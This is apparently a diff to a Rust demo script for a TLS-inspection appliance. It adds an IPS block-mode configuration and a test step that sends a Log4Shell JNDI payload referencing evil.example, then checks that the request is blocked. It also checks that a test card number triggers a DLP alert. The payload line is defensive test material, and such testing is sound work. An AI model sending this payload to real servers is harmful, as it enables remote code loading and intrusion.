@@ -36,7 +36,7 @@ pub fn run(bin: &Path) -> Result<()> {
     let server = pki.server("server", &["server.demo", "passthrough.demo", SERVER_IP], "root", None)?;
     let eve = t.dir.join("eve.json");
     let config = format!(
-        "{config}\n[tls]\ninspect = true\nca_dir = \"{}\"\nextra_roots = [\"{}\"]\ndo_not_inspect_hosts = [\"passthrough.demo\"]\n\n[log]\neve = \"{}\"\n",
+        "{config}\n[tls]\ninspect = true\nca_dir = \"{}\"\nextra_roots = [\"{}\"]\ndo_not_inspect_hosts = [\"passthrough.demo\"]\n\n[ips]\nenabled = true\nmode = \"block\"\n\n[log]\neve = \"{}\"\n",
         ca_dir.display(),
         pki.root.display(),
         eve.display()
@@ -82,16 +82,38 @@ pub fn run(bin: &Path) -> Result<()> {
     println!("curl --cacert test-root https://passthrough.demo/");
     curl("passthrough.demo", &pki.root)?;
 
-    step(7, "the flow log (one EVE-style JSON line per flow)");
+    step(7, "the IPS on the decrypted stream: a Log4Shell request is blocked, a card number is reported");
+    let out = t
+        .client
+        .cmd("curl")
+        .args(["-sS", "-g", "--max-time", "10", "--connect-to", "::198.18.0.2:", "--cacert"])
+        .arg(ca_dir.join("ca.crt"))
+        .arg("https://server.demo/?q=${jndi:ldap://evil.example/a}")
+        .output()?;
+    let page = String::from_utf8_lossy(&out.stdout);
+    println!("curl 'https://server.demo/?q=${{jndi:ldap://evil.example/a}}' ->");
+    for line in page.lines().filter(|l| l.contains("Blocked") || l.contains("sid")) {
+        println!("  {}", line.trim());
+    }
+    let _ = t
+        .client
+        .cmd("curl")
+        .args(["-sS", "-o", "/dev/null", "--max-time", "10", "--connect-to", "::198.18.0.2:", "--data", "card=4111 1111 1111 1111", "--cacert"])
+        .arg(ca_dir.join("ca.crt"))
+        .arg("https://server.demo/")
+        .output()?;
+    println!("curl --data 'card=4111 1111 1111 1111' https://server.demo/ -> passed, reported (DLP action: alert)");
+
+    step(8, "the log: one EVE-style JSON line per flow, per alert and per DLP finding");
     std::thread::sleep(Duration::from_millis(800));
     for line in std::fs::read_to_string(&eve).unwrap_or_default().lines() {
         println!("{line}");
     }
 
-    step(8, "tls-inspect stats");
+    step(9, "tls-inspect stats");
     show(t.cli().arg("stats"))?;
 
-    step(9, "teardown: appliance stopped (its XDP program would keep bridging), then detached; namespaces and pins removed");
+    step(10, "teardown: appliance stopped (its XDP program would keep bridging), then detached; namespaces and pins removed");
     let status = t.stop_appliance();
     println!("appliance exited: {status:?}");
     show(t.cli().arg("detach"))?;
